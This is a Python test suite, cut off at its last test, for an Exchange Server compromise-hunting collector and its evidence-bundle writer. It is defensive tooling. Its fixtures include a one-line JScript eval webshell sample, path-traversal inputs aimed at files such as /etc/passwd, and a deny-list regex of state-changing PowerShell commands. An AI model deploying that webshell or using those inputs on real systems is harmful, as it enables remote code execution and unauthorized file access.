"""Tests of live hunt collection: the rules-to-collector instructions, the PowerShell collector
module, the controller-side bundle writer and roles/exchange_hunt/tasks/live.yml.

There is no Windows host here. The collector module is checked statically (tree-sitter parse,
read-only command allowlist, its option spec against its documentation); live.yml is run with
ansible-playbook against localhost with the collector replaced by a stand-in Python module that
accepts exactly the documented options and returns a canned result, and the bundle it writes is
then hunted by the engine like any offline bundle.
"""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import check_powershell as cps
import pytest
import yaml

from exchange_remediation import live_bundle as lb
from exchange_remediation.hunt_collection_spec import PathSet, collection_spec, split_glob

REPO = Path(__file__).resolve().parents[2]
COLLECTOR = REPO / "library" / "exchange_hunt_collect.ps1"
COLLECTOR_DOC = REPO / "library" / "exchange_hunt_collect.py"
BUNDLE_DOC = REPO / "library" / "exchange_hunt_bundle.py"
ROLE = REPO / "roles" / "exchange_hunt"
LIVE = ROLE / "tasks" / "live.yml"
DEMO = REPO / "inventories" / "demo" / "evidence" / "ex16-legacy"
EX = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
DEMO_HTTPPROXY = "Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG"
SECRET = "Pa55-not-for-output-7f3c"


def _doc(path: Path, name: str = "DOCUMENTATION") -> dict:
    match = re.search(name + r' = r"""(.*?)"""', path.read_text(encoding="utf-8"), re.S)
    assert match, f"{path.name} has no {name}"
    return yaml.safe_load(match.group(1))


# =========================================================================== collection_spec


@dataclass(frozen=True)
class FakeSource:
    type: str
    stream: str
    paths: tuple[str, ...] = ()
    channels: tuple[str, ...] = ()
    extract: str | None = None


@dataclass(frozen=True)
class FakeRule:
    id: str
    source: FakeSource
    prefilter: tuple[str, ...] = ()
    fields_used: frozenset[str] = field(default_factory=frozenset)


@dataclass(frozen=True)
class FakeRuleSet:
    rules: tuple[FakeRule, ...]


def _spec(*rules: FakeRule) -> dict:
    return collection_spec(FakeRuleSet(rules), since="2021-01-01", max_bytes=1000, max_file_bytes=100,
                           max_events_per_channel=10)


@pytest.mark.parametrize(
    ("glob", "expected"),
    [
        ("<EX>Logging\\HttpProxy\\**\\*.log", PathSet("<EX>Logging\\HttpProxy", True, "*.log")),
        ("<EX>Logging\\ECP\\Server\\*.log", PathSet("<EX>Logging\\ECP\\Server", False, "*.log")),
        ("<IISLOG>\\W3SVC*\\u_ex*.log", PathSet("<IISLOG>", True, "u_ex*.log")),
        ("<EX>FrontEnd\\HttpProxy\\owa\\auth\\errorEE.aspx",
         PathSet("<EX>FrontEnd\\HttpProxy\\owa\\auth", False, "errorEE.aspx")),
        ("<SYS>\\root\\**", PathSet("<SYS>\\root", True, "*")),
        ("<WWW>\\aspnet_client\\", PathSet("<WWW>\\aspnet_client", True, "*")),
        ("<EX>*.log", PathSet("<EX>", False, "*.log")),
        ("<WWW>/aspnet_client/*.aspx", PathSet("<WWW>\\aspnet_client", False, "*.aspx")),
        ("C:\\PerfLogs\\**\\*.dmp", PathSet("C:\\PerfLogs", True, "*.dmp")),
    ],
)
def test_split_glob(glob, expected):
    assert split_glob(glob) == expected


@pytest.mark.parametrize("glob", ["*.log", "x.log", "**\\*.aspx", "<EX>"])
def test_split_glob_rejects_globs_without_a_folder(glob):
    with pytest.raises(ValueError):
        split_glob(glob)


def test_log_rules_of_one_folder_share_one_set_with_the_union_of_literals():
    spec = _spec(
        FakeRule("A-1", FakeSource("exchange_log", "HttpProxy", ("<EX>Logging\\HttpProxy\\**\\*.log",)),
                 ("ServerInfo~", "/ecp/")),
        FakeRule("A-2", FakeSource("exchange_log", "HttpProxy", ("<EX>Logging\\HttpProxy\\**\\*.LOG",)),
                 ("serverinfo~", "X-BEResource")),
        FakeRule("A-3", FakeSource("iis_log", "IIS", ("<IISLOG>\\W3SVC*\\u_ex*.log",)), ("/owa/auth/",)),
    )
    assert spec["log_sets"] == [
        {"stream": "HttpProxy", "root": "<EX>Logging\\HttpProxy", "recurse": True, "include": "*.log",
         "literals": ["/ecp/", "ServerInfo~", "X-BEResource"]},
        {"stream": "IIS", "root": "<IISLOG>", "recurse": True, "include": "u_ex*.log", "literals": ["/owa/auth/"]},
    ]
    assert spec["file_sets"] == [] and spec["event_sets"] == [] and spec["warnings"] == []


def test_file_event_and_cmdlet_rules():
    spec = _spec(
        FakeRule("W-1", FakeSource("file", "WebFolders",
                                   ("<WWW>\\aspnet_client\\**", "<EX>FrontEnd\\HttpProxy\\owa\\auth\\*"))),
        FakeRule("W-2", FakeSource("file", "WebFolders", ("<WWW>\\aspnet_client\\**",))),
        FakeRule("E-1", FakeSource("event", "Application", channels=("Application",)), ("MSExchange",)),
        FakeRule("E-2", FakeSource("event", "Application", channels=("application",))),
        FakeRule("C-1", FakeSource("cmdlet", "RpsCmdlet",
                                   ("<EX>Logging\\CmdletInfra\\Powershell-Proxy\\Cmdlet\\Rps_Cmdlet_*.LOG",),
                                   ("MSExchange Management",)), ("New-MailboxExportRequest",)),
    )
    assert spec["file_sets"] == [
        {"stream": "WebFolders", "root": "<EX>FrontEnd\\HttpProxy\\owa\\auth", "recurse": False, "include": "*"},
        {"stream": "WebFolders", "root": "<WWW>\\aspnet_client", "recurse": True, "include": "*"},
    ]
    # A rule without literals can match any event: its channel is kept whole.
    assert spec["event_sets"] == [
        {"channel": "Application", "stream": "Application", "literals": [], "keep_all": True},
        # Read by a cmdlet rule only: the bucket is named after the channel.
        {"channel": "MSExchange Management", "stream": "MSExchangeManagement",
         "literals": ["New-MailboxExportRequest"], "keep_all": False},
    ]
    assert [s["stream"] for s in spec["log_sets"]] == ["RpsCmdlet"]
    assert spec["log_sets"][0]["literals"] == ["New-MailboxExportRequest"]


def test_standard_streams_come_first_and_caps_are_passed_on():
    spec = _spec(
        FakeRule("I-1", FakeSource("iis_log", "IIS", ("<IISLOG>\\W3SVC1\\*.log",)), ("x",)),
        FakeRule("O-1", FakeSource("text", "OABGenerator", ("<EX>Logging\\OABGeneratorLog\\*.LOG",)),
                 ("Download failed",)),
        FakeRule("H-1", FakeSource("exchange_log", "HttpProxy", ("<EX>Logging\\HttpProxy\\**\\*.log",)), ("y",)),
    )
    assert [s["stream"] for s in spec["log_sets"]] == ["HttpProxy", "OABGenerator", "IIS"]
    caps = ("since", "max_bytes", "max_file_bytes", "max_events_per_channel", "max_script_bytes")
    assert {k: spec[k] for k in caps} == {"since": "2021-01-01", "max_bytes": 1000, "max_file_bytes": 100,
                                          "max_events_per_channel": 10, "max_script_bytes": 65536}


def test_page_on_disk_lists_the_pages_of_both_web_roots():
    spec = _spec(FakeRule("P-1", FakeSource("iis_log", "IIS", ("<IISLOG>\\W3SVC1\\*.log",)), (".aspx",),
                          frozenset({"page_on_disk", "cs-uri-stem"})))
    roots = {(s["root"], s["include"], s["recurse"]) for s in spec["file_sets"]}
    assert roots == {(root, pattern, True) for root in ("<WWW>", "<EX>FrontEnd\\HttpProxy")
                     for pattern in ("*.aspx", "*.ashx", "*.asp")}


def test_a_bad_rule_path_is_a_warning_not_a_failure():
    spec = _spec(
        FakeRule("B-1", FakeSource("exchange_log", "ECP", ("*.log", "<EX>Logging\\ECP\\Server\\*.log")), ("x",)),
        FakeRule("B-2", FakeSource("exchange_log", "ECP", ("<EX>Logging\\ECP\\Server\\*.log",))),
    )
    assert len(spec["log_sets"]) == 1
    assert spec["warnings"][0].startswith("B-1: ")
    assert spec["warnings"][1].startswith("B-2: no prefilter literal")


def test_spec_keys_are_the_collector_options():
    options = set(_doc(COLLECTOR_DOC)["options"])
    spec = _spec()
    # The time budget follows from the task's timeout (live.yml), not from the rules.
    assert set(spec) - {"warnings"} == options - {"max_seconds"}


def test_spec_of_the_real_rules():
    from exchange_remediation.hunt_rule import load_rule_set

    rule_set = load_rule_set(str(REPO / "data"))
    spec = collection_spec(rule_set, since="2021-01-01", max_bytes=64 << 20, max_file_bytes=16 << 20,
                           max_events_per_channel=20000)
    assert spec["warnings"] == []
    streams = {s["stream"] for s in spec["log_sets"]}
    assert {"HttpProxy", "ECP", "OABGenerator"} <= streams
    http = [s for s in spec["log_sets"] if s["stream"] == "HttpProxy"]
    assert any("serverinfo~" in (literal.lower() for literal in s["literals"]) for s in http)
    for entry in spec["log_sets"]:
        assert entry["literals"], entry
        assert re.match(r"^(<[A-Z]+>|[A-Z]:\\)", entry["root"]), entry
    assert {"WebFolders"} <= {s["stream"] for s in spec["file_sets"]}
    channels = {s["channel"]: s for s in spec["event_sets"]}
    assert {"Application", "MSExchange Management"} <= set(channels)
    # Caps on a channel are reported under the stream the engine counts that channel in.
    assert channels["Application"]["stream"] == "Application"
    assert channels["MSExchange Management"]["stream"] == "MSExchangeManagement"
    # Every log and file rule path is covered by a set of its stream.
    for rule in rule_set.rules:
        is_log = rule.source.type in {"exchange_log", "iis_log", "text", "cmdlet"}
        sets = spec["log_sets"] if is_log else spec["file_sets"]
        for glob in rule.source.paths:
            path = split_glob(glob)
            assert any(s["root"].lower() == path.root.lower() and s["include"].lower() == path.include.lower()
                       for s in sets if s["stream"] == rule.source.stream), (rule.id, glob)


# =========================================================================== the collector module


def _collector_text() -> str:
    return cps.read_script(COLLECTOR)


def _tree():
    import tree_sitter

    return tree_sitter.Parser(cps.LANGUAGE).parse(_collector_text().encode("utf-8"))


def _walk(node):
    yield node
    for child in node.children:
        yield from _walk(child)


def _code_without_comments() -> str:
    raw = _collector_text().encode("utf-8")
    out = bytearray(raw)
    for node in _walk(_tree().root_node):
        if node.type == "comment":
            out[node.start_byte:node.end_byte] = b" " * (node.end_byte - node.start_byte)
    return out.decode("utf-8")


READ_ONLY_COMMANDS = {
    "foreach-object",
    "get-childitem",
    "get-itemproperty",
    "get-winevent",
    "join-path",
    "sort-object",
    "test-path",
    "where-object",
}
STATE_CHANGING = re.compile(
    r"\b(?:(?:Set|New|Remove|Enable|Disable|Start|Stop|Restart|Install|Uninstall|Clear|Rename|Move|Copy|"
    r"Suspend|Resume|Register|Unregister|Update|Write|Out|Export|Invoke|Lock|Unlock|Grant|Revoke)-[A-Za-z]+"
    r"|Add-(?:Content|Type|Member|PSSnapin)|iex)\b",
    re.IGNORECASE,
)
MUTATING_CALLS = re.compile(
    r"(?:\[[\w.]+\])?(?:\.|::)(?:SetValue|DeleteValue|DeleteSubKey\w*|CreateSubKey|Delete|Create(?:Text)?|Write\w*|Append\w*|Move\w*|"
    r"Copy\w*|Replace|Encrypt|Decrypt|SetAccessControl|SetAttributes|SetLastWriteTime\w*|Kill|Start|Stop|Invoke)\s*\(",
    re.IGNORECASE,
)


def test_collector_parses_without_error():
    assert cps.syntax_errors(_collector_text()) == []
    report = cps.check_paths([COLLECTOR], REPO)
    assert report.ok and report.files == 1


def test_collector_is_an_ansible_basic_module():
    text = _collector_text()
    assert text.startswith("#!powershell\n")
    assert "#AnsibleRequires -CSharpUtil Ansible.Basic" in text
    assert "[Ansible.Basic.AnsibleModule]::Create($args, $spec)" in text
    assert re.search(r"supports_check_mode = \$true", text)
    assert "$module.Result.changed = $false" in text
    assert text.rstrip().endswith("$module.ExitJson()")
    assert "\r" not in text and not re.search(r"[\u2018\u2019\u201c\u201d]", text)


def test_collector_commands_are_an_allowlist_of_reads():
    own = set()
    commands = set()
    for node in _walk(_tree().root_node):
        if node.type == "function_statement":
            own.update(c.text.decode().lower() for c in node.children if c.type == "function_name")
        elif node.type == "command_name":
            commands.add(node.text.decode().lower())
        elif node.type == "command_name_expr":
            pytest.fail(f"dynamic command invocation: {node.text.decode()}")
    unknown = sorted(commands - own - READ_ONLY_COMMANDS)
    assert not unknown, f"commands outside the read-only allowlist: {unknown}"
    for name in own:
        assert name.split("-", 1)[0] in {"get", "add", "convertto", "resolve", "test"}, name
    assert {n for n in own if n.startswith("add-")} == {"add-collectionerror", "add-caphit"}


def test_collector_changes_nothing_on_the_server():
    code = _code_without_comments()
    hits = sorted({m.group(0) for m in STATE_CHANGING.finditer(code)})
    assert not hits, f"state-changing commands: {hits}"
    dynamic = r"Invoke-Expression|\biex\b|\[ScriptBlock\]::Create|Invoke-WmiMethod|Invoke-CimMethod"
    assert not re.search(dynamic, code, re.I)
    # Allowed: String.Replace on strings the collector builds, creating a SHA-256 hash object and the module.
    calls = [m.group(0) for m in MUTATING_CALLS.finditer(code)]
    allowed = {".Replace(", "[System.Security.Cryptography.SHA256]::Create(", "[Ansible.Basic.AnsibleModule]::Create("}
    assert set(calls) <= allowed, calls
    assert not re.search(r"(^|[^\w$'-])(>>?|Out-File|Set-Content|Add-Content|New-Item|Remove-Item)\s", code, re.M)
    assert not re.search(r"OpenSubKey\(", code)
    assert not re.search(r"FileMode\]::(?!Open\b)", code), "files are only opened, never created or truncated"
    assert not re.search(r"FileAccess\]::(?!Read\b)", code), "files are opened for reading only"
    # Every file the collector opens is shared with its writers (Exchange and IIS keep logs open).
    opens = re.findall(r"FileStream\]::new\(([^)]*)\)", code)
    assert len(opens) == 3
    for arguments in opens:
        assert arguments.endswith("[System.IO.FileAccess]::Read, $script:ShareAll"), arguments
    assert "$script:ShareAll = [System.IO.FileShare]'ReadWrite, Delete'" in code


def test_safety_scan_catches_writes():
    for sample in ("Set-Content -Path x", "New-Item -Path x", "Remove-Item x", "Out-File x", "Invoke-Expression $x",
                   "Add-Type -TypeDefinition $x", "Export-Csv x", "iex $x", "Copy-Item a b"):
        assert STATE_CHANGING.search(sample), sample
    for sample in ("[IO.File]::WriteAllText($p, $t)", "$stream.Write($b, 0, 1)", "$key.SetValue('a', 1)",
                   "$file.Delete()", "$file.MoveTo($x)"):
        assert MUTATING_CALLS.search(sample), sample
    assert not STATE_CHANGING.search("Get-ChildItem -LiteralPath $folder")


def test_collector_reads_what_the_issue_asks_for():
    code = _code_without_comments()
    for needle in (
        "HKLM:\\SOFTWARE\\Microsoft\\ExchangeServer\\{0}\\Setup",
        "@('v15', 'v14')",
        "'MsiInstallPath'",
        "$env:SystemDrive",
        "System32\\inetsrv\\config\\applicationHost.config",
        "site[@name='Default Web Site']",
        "virtualDirectory[@path='/']/@physicalPath",
        "logFile/@directory",
        "ExpandEnvironmentVariables",
        "'<WINDIR>' = $env:SystemRoot",
        "'<PROGRAMDATA>' = $env:ProgramData",
        "[System.IO.StreamReader]::new(",
        "ReadLine()",
        "StartsWith('#', $ordinal)",
        "LastWriteTimeUtc",
        "IgnoreCase, CultureInvariant",
        "[regex]::Escape(",
        "SHA256",
        "ToBase64String",
        "Get-WinEvent -FilterHashtable $filter -Oldest",
        "StartTime",
        "NoMatchingEventsFound",
        "LevelDisplayName",
        ".Properties",
        "max_file_bytes",
        "'max_events_per_channel'",
        "'max_seconds'",
        "Test-TimeUp",
        "[string]::Join(\"`r`n\", $excerpt.kept)",
        "$module.Warn(",
    ):
        assert needle in code, f"the collector lacks {needle!r}"
    for extension in (".aspx", ".ashx", ".asp", ".asmx", ".js", ".config", ".ps1", ".bat", ".cmd"):
        assert f"'{extension}'" in code


def test_every_collector_function_has_help():
    text = _collector_text()
    functions = re.findall(r"^function ([\w-]+) \{\n(.*?)^\}", text, re.M | re.S)
    assert len(functions) >= 10
    for name, body in functions:
        assert re.match(r"\s*<#\s*\.SYNOPSIS", body), f"{name} lacks comment-based help"


def _ps_options(block: str) -> dict[str, dict]:
    """name -> {type, elements, default, required} of the simple entries of a PowerShell option table."""
    options = {}
    for match in re.finditer(r"^\s*(\w+) = @\{ type = '(\w+)'(?:; elements = '(\w+)')?(?:; default = ([^;}]+?))?"
                             r"(?:; required = \$true)?\s*\}", block, re.M):
        name, kind, elements, default = match.groups()
        options[name] = {"type": kind, "elements": elements, "default": default,
                         "required": "required = $true" in match.group(0)}
    return options


def _ps_default(text: str | None):
    if text is None:
        return None
    text = text.strip()
    if text in ("$true", "$false"):
        return text == "$true"
    if text == "@()":
        return []
    if text.startswith("'"):
        return text.strip("'")
    return int(text)


def _compare(ps: dict[str, dict], doc: dict[str, dict], where: str) -> None:
    assert set(ps) == set(doc), f"{where}: module {sorted(ps)} vs documentation {sorted(doc)}"
    for name, spec in doc.items():
        assert ps[name]["type"] == spec["type"], (where, name)
        assert ps[name]["elements"] == spec.get("elements"), (where, name)
        assert ps[name]["required"] == bool(spec.get("required")), (where, name)
        if "default" in spec:
            assert _ps_default(ps[name]["default"]) == spec["default"], (where, name)
        else:
            assert ps[name]["default"] is None, (where, name)


def test_collector_options_match_its_documentation():
    text = _collector_text()
    doc = _doc(COLLECTOR_DOC)["options"]
    path_block = re.search(r"^\$pathSetOptions = @\{\n(.*?)^\}", text, re.M | re.S).group(1)
    spec_block = re.search(r"^\$spec = @\{\n(.*?)^\}", text, re.M | re.S).group(1)
    event_block = re.search(r"event_sets = @\{(.*?)\n {8}\}", spec_block, re.S).group(1)
    top = _ps_options(re.sub(r"event_sets = @\{.*?\n {8}\}", "", spec_block, flags=re.S))
    # The list options carry their suboptions in a table of their own.
    for name in ("log_sets", "file_sets"):
        assert re.search(rf"^\s*{name} = @\{{ type = 'list'; elements = 'dict'; default = @\(\); options = \$\w+ \}}",
                         spec_block, re.M), name
    top.update({name: {"type": "list", "elements": "dict", "default": "@()", "required": False}
                for name in ("log_sets", "file_sets", "event_sets")})
    assert re.search(r"type = 'list'\s+elements = 'dict'\s+default = @\(\)\s+options = @\{", event_block)
    _compare(top, {name: {k: v for k, v in spec.items() if k != "suboptions"} for name, spec in doc.items()}, "options")
    path_options = _ps_options(path_block)
    _compare(path_options, doc["file_sets"]["suboptions"], "file_sets")
    log_options = dict(path_options)
    log_options.update(_ps_options(re.search(r"^\$logSetOptions\.literals = (@\{.*\})$", text, re.M)
                                   .group(1).replace("@{", "literals = @{", 1)))
    _compare(log_options, doc["log_sets"]["suboptions"], "log_sets")
    _compare(_ps_options(event_block.split("options = @{", 1)[1]), doc["event_sets"]["suboptions"], "event_sets")


def test_documented_returns_cover_the_bundle_inputs():
    returns = set(_doc(COLLECTOR_DOC, "RETURN"))
    assert {"collected_at", "since", "tokens", "files", "listing", "events", "caps_hit", "errors", "limits",
            "roots"} <= returns
    code = _code_without_comments()
    for name in returns:
        assert f"$module.Result.{name} = " in code, name


# =========================================================================== a reference of the reduction


def _reduce(text: str, literals: list[str], budget: int = 1 << 30) -> dict:
    """What the collector keeps of one log (a Python model of Get-LogExcerpt, to build canned results)."""
    lines = text.lstrip("\ufeff").splitlines()
    kept, numbers, used, capped, first, last = [], [], 0, False, 0, 0
    lowered = [literal.lower() for literal in literals]
    for number, line in enumerate(lines, 1):
        directive = line.startswith("#")
        keep = directive or number == 1
        if not directive and number > 1:
            last = number
            if not first:
                first, keep = number, True
            elif any(literal in line.lower() for literal in lowered):
                keep = True
        if keep and not capped:
            size = len(line.encode("utf-8")) + 2
            if used + size > budget:
                capped = True
            else:
                kept.append(line)
                numbers.append(number)
                used += size
    if last and (not numbers or numbers[-1] != last):
        kept.append(lines[last - 1])
        numbers.append(last)
    return {"lines": len(lines), "kept": len(kept), "capped": capped, "content": "\r\n".join(kept),
            "line_numbers": numbers}


def _demo_httpproxy_entry() -> dict:
    raw = (DEMO / "files" / "C" / DEMO_HTTPPROXY).read_bytes()
    windows = "C:\\" + DEMO_HTTPPROXY.replace("/", "\\")
    return {"path": windows, "stream": "HttpProxy", "bytes": len(raw), "read": True,
            **_reduce(raw.decode("utf-8"), ["ServerInfo~"])}


WEBSHELL = b'<%@ Page Language="Jscript"%><%eval(Request.Item["orange"],"unsafe");%>\n'


def _canned_result() -> dict:
    """A collector result as exchange_hunt_collect returns it (one of each kind of item)."""
    return {
        "changed": False,
        "collected_at": "2021-03-09T14:27:00.000Z",
        "since": "2021-01-01T00:00:00.000Z",
        "tokens": {"<EX>": EX, "<SYS>": "C:", "<WWW>": "C:\\inetpub\\wwwroot",
                   "<IISLOG>": "C:\\inetpub\\logs\\LogFiles", "<WINDIR>": "C:\\Windows",
                   "<PROGRAMDATA>": "C:\\ProgramData"},
        "roots": [{"kind": "log", "stream": "HttpProxy", "root": "<EX>Logging\\HttpProxy",
                   "path": EX + "Logging\\HttpProxy", "found": True, "files": 2}],
        "files": [
            _demo_httpproxy_entry(),
            {"path": EX + "Logging\\HttpProxy\\Owa\\HttpProxy_2021030811-1.LOG", "stream": "HttpProxy", "lines": 0,
             "bytes": 90000000, "kept": 0, "capped": True, "read": False, "content": "", "line_numbers": []},
        ],
        "listing": [
            {"path": "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4BETNm9k.aspx", "stream": "WebFolders",
             "type": "file", "size": len(WEBSHELL), "sha256": hashlib.sha256(WEBSHELL).hexdigest(),
             "modified": "2021-03-03T06:52:19.000Z", "head_hex": WEBSHELL[:16].hex(),
             "head_base64": base64.b64encode(WEBSHELL).decode(), "truncated": False},
            {"path": "C:\\inetpub\\wwwroot\\aspnet_client\\big.dll", "stream": "WebFolders", "type": "file",
             "size": 300000, "sha256": "ab" * 32, "modified": "2020-01-01T00:00:00.000Z",
             "head_hex": "4d5a90000300000004000000ffff0000", "head_base64": None, "truncated": False},
            {"path": "C:\\inetpub\\wwwroot\\aspnet_client\\..\\escape.aspx", "stream": "WebFolders", "type": "file",
             "size": 3, "sha256": "cd" * 32, "modified": None, "head_hex": "616263", "head_base64": "YWJj",
             "truncated": False},
        ],
        "events": {
            "MSExchange Management": {
                "count": 40, "kept": 1, "capped": False,
                "first": "2021-02-10T09:00:00.000Z", "last": "2021-02-10T09:00:00.000Z",
                "records": [{
                    "TimeCreated": "2021-02-10T09:00:00.000Z", "Id": 1, "ProviderName": "MSExchange CmdletLogs",
                    "LevelDisplayName": "Information", "Level": 4,
                    "Message": "Cmdlet succeeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl 'x'",
                    "Properties": ["Set-OabVirtualDirectory", "-ExternalUrl 'x'"],
                }],
            },
            "Microsoft-Windows-PowerShell/Operational": {"count": 0, "kept": 0, "capped": False, "first": None,
                                                         "last": None, "records": []},
            "Missing Channel": {"count": 0, "kept": 0, "capped": False, "first": None, "last": None, "records": [],
                                "error": "There is not an event log on the localhost computer that matches"},
        },
        "caps_hit": [{"cap": "max_bytes", "stream": "HttpProxy", "source": "", "limit": 67108864,
                      "detail": "1 log files not read"}],
        "errors": ["eventlog Missing Channel: There is not an event log on the localhost computer that matches"],
        "limits": {"max_bytes": 67108864, "max_file_bytes": 16777216, "max_events_per_channel": 20000,
                   "max_script_bytes": 65536},
    }


# =========================================================================== live_bundle


@pytest.mark.parametrize(
    ("windows", "expected"),
    [
        ("C:\\inetpub\\wwwroot\\x.aspx", "files/C/inetpub/wwwroot/x.aspx"),
        ("d:\\Exchange Server\\V15\\Logging\\a.LOG", "files/D/Exchange Server/V15/Logging/a.LOG"),
        ("\\\\?\\C:\\very\\long\\x.log", "files/C/very/long/x.log"),
        ("C:/inetpub//wwwroot\\x.aspx", "files/C/inetpub/wwwroot/x.aspx"),
        ("C:\\a\\console.aspx", "files/C/a/console.aspx"),
        ("C:\\a\\ümlaut 名.aspx", "files/C/a/ümlaut 名.aspx"),
    ],
)
def test_bundle_path_maps_windows_paths(windows, expected):
    assert lb.bundle_path(windows) == expected


@pytest.mark.parametrize(
    "windows",
    [
        "C:\\inetpub\\..\\..\\etc\\passwd",
        "C:\\inetpub\\.\\x",
        "C:\\inetpub\\x.aspx:hidden",
        "C:\\inetpub\\CON",
        "C:\\inetpub\\nul.txt",
        "C:\\inetpub\\COM1.log",
        "C:\\inetpub\\LPT9",
        "C:\\inetpub\\x\x00y",
        "C:\\inetpub\\a\nb",
        "\\\\server\\share\\x.aspx",
        "\\\\?\\UNC\\server\\share\\x",
        "inetpub\\x.aspx",
        "/etc/passwd",
        "C:\\",
        "C:x.aspx",
        "",
        "C:\\" + "a" * 256,
    ],
)
def test_bundle_path_rejects_unsafe_paths(windows):
    with pytest.raises(lb.UnsafePathError):
        lb.bundle_path(windows)


def test_channel_file_names():
    assert lb.channel_file_name("Application") == "Application.jsonl"
    assert lb.channel_file_name("MSExchange Management") == "MSExchange Management.jsonl"
    assert (lb.channel_file_name("Microsoft-Windows-PowerShell/Operational")
            == "Microsoft-Windows-PowerShell%4Operational.jsonl")
    for bad in ("", "..", "a\\b", "a\nb"):
        with pytest.raises(lb.UnsafePathError):
            lb.channel_file_name(bad)


def _verify_manifest(bundle: Path) -> list[str]:
    """Check manifest.sha256 like `sha256sum -c` does, and that it lists every other file."""
    lines = (bundle / lb.MANIFEST).read_text(encoding="utf-8").splitlines()
    listed = []
    for line in lines:
        digest, name = line.split("  ", 1)
        assert re.fullmatch(r"[0-9a-f]{64}", digest), line
        assert hashlib.sha256((bundle / name).read_bytes()).hexdigest() == digest, name
        listed.append(name)
    on_disk = sorted(str(p.relative_to(bundle)).replace(os.sep, "/") for p in bundle.rglob("*")
                     if p.is_file() and p.name != lb.MANIFEST)
    assert listed == on_disk
    assert listed == sorted(listed)
    return listed


def _bundle_bytes(bundle: Path) -> dict[str, bytes]:
    return {str(p.relative_to(bundle)): p.read_bytes() for p in sorted(bundle.rglob("*")) if p.is_file()}


@pytest.fixture
def server_json(tmp_path) -> Path:
    bundle = tmp_path / "ex01"
    bundle.mkdir()
    shutil.copy(DEMO / "server.json", bundle / "server.json")
    return bundle


def test_write_live_bundle_layout(server_json):
    bundle = server_json
    written = lb.write_live_bundle(str(bundle), _canned_result())
    result = written.to_result()
    assert result["changed"] is False
    assert result["files"] == 1 and result["listing"] == 3 and result["copied"] == 1
    assert result["events"] == {"MSExchange Management": 1, "Microsoft-Windows-PowerShell/Operational": 0}

    log = bundle / "files" / "C" / DEMO_HTTPPROXY
    kept = log.read_bytes()
    assert kept.endswith(b"\r\n") and not kept.startswith(b"\xef\xbb\xbf")
    kept_lines = kept.decode("utf-8").split("\r\n")[:-1]
    assert kept_lines[0].startswith("DateTime,RequestId,")
    assert kept_lines[1] == "#Software: Microsoft Exchange Server"
    assert any("/ecp/proxyLogon.ecp" in line for line in kept_lines)
    assert not (bundle / "files" / "C" / "Program Files" / "Microsoft" / "Exchange Server" / "V15" / "Logging"
                / "HttpProxy" / "Owa").exists(), "a file that was not read is not in the bundle"

    shell = bundle / "files" / "C" / "inetpub" / "wwwroot" / "aspnet_client" / "system_web" / "4BETNm9k.aspx"
    assert shell.read_bytes() == WEBSHELL
    assert not (bundle / "files" / "C" / "inetpub" / "wwwroot" / "aspnet_client" / "big.dll").exists()
    assert not (bundle / "files" / "C" / "inetpub" / "escape.aspx").exists()
    assert not list(bundle.parent.glob("escape*"))

    listing = [json.loads(line) for line in (bundle / "listing.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [entry["path"].rsplit("\\", 1)[1] for entry in listing] == ["escape.aspx", "big.dll", "4BETNm9k.aspx"]
    shell_entry = listing[2]
    assert shell_entry == {"path": "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4BETNm9k.aspx",
                           "size": len(WEBSHELL), "sha256": hashlib.sha256(WEBSHELL).hexdigest(),
                           "modified": "2021-03-03T06:52:19.000Z", "copied": True, "truncated": False,
                           "head_hex": WEBSHELL[:16].hex(), "stream": "WebFolders"}
    assert listing[1]["copied"] is False and listing[1]["sha256"] == "ab" * 32
    assert listing[0]["copied"] is False

    events = bundle / "eventlogs" / "MSExchange Management.jsonl"
    records = [json.loads(line) for line in events.read_text(encoding="utf-8").splitlines()]
    assert list(records[0]) == list(lb.EVENT_FIELDS)
    assert records[0]["Properties"] == ["Set-OabVirtualDirectory", "-ExternalUrl 'x'"]
    assert (bundle / "eventlogs" / "Microsoft-Windows-PowerShell%4Operational.jsonl").read_bytes() == b""
    assert not (bundle / "eventlogs" / "Missing Channel.jsonl").exists(), "an unread channel is absent, not empty"

    collection = json.loads((bundle / "collection.json").read_text(encoding="utf-8"))
    assert collection["schema"] == 1 and collection["collected_at"] == "2021-03-09T14:27:00.000Z"
    demo_path = "C:\\" + DEMO_HTTPPROXY.replace("/", "\\")
    entry = collection["files"][demo_path]
    assert entry["lines"] > entry["kept"] > 5 and entry["capped"] is False and entry["read"] is True
    assert entry["bundle_path"] == "files/C/" + DEMO_HTTPPROXY
    assert len(entry["line_numbers"]) == entry["kept"] and entry["line_numbers"][:2] == [1, 2]
    unread = collection["files"][EX + "Logging\\HttpProxy\\Owa\\HttpProxy_2021030811-1.LOG"]
    assert unread["read"] is False and unread["capped"] is True and unread["bundle_path"] is None
    assert collection["events"]["MSExchange Management"]["count"] == 40
    assert collection["events"]["Missing Channel"]["error"].startswith("There is not an event log")
    assert collection["caps_hit"] == [{"cap": "max_bytes", "stream": "HttpProxy", "source": None,
                                       "limit": 67108864, "detail": "1 log files not read"}]
    assert collection["tokens"]["<EX>"] == EX
    assert collection["errors"][0].startswith("eventlog Missing Channel")
    assert any("escape.aspx" in error and "'..'" in error for error in collection["errors"])
    assert result["errors"] == collection["errors"]

    listed = _verify_manifest(bundle)
    assert "server.json" in listed and "collection.json" in listed and "listing.jsonl" in listed
    assert result["manifest_entries"] == len(listed)


def test_write_live_bundle_is_idempotent_and_replaces_an_earlier_run(server_json):
    bundle = server_json
    lb.write_live_bundle(str(bundle), _canned_result())
    first = _bundle_bytes(bundle)
    lb.write_live_bundle(str(bundle), _canned_result())
    assert _bundle_bytes(bundle) == first

    smaller = _canned_result()
    smaller["files"] = smaller["files"][1:]
    smaller["listing"] = []
    smaller["events"] = {}
    lb.write_live_bundle(str(bundle), smaller)
    now = _bundle_bytes(bundle)
    assert not any(name.startswith(("files", "eventlogs", "listing")) for name in now), sorted(now)
    assert now["server.json"] == first["server.json"]
    assert not [p for p in bundle.iterdir() if p.name.startswith(".")], "no staging left behind"
    _verify_manifest(bundle)


def test_an_offline_bundle_is_never_overwritten(tmp_path):
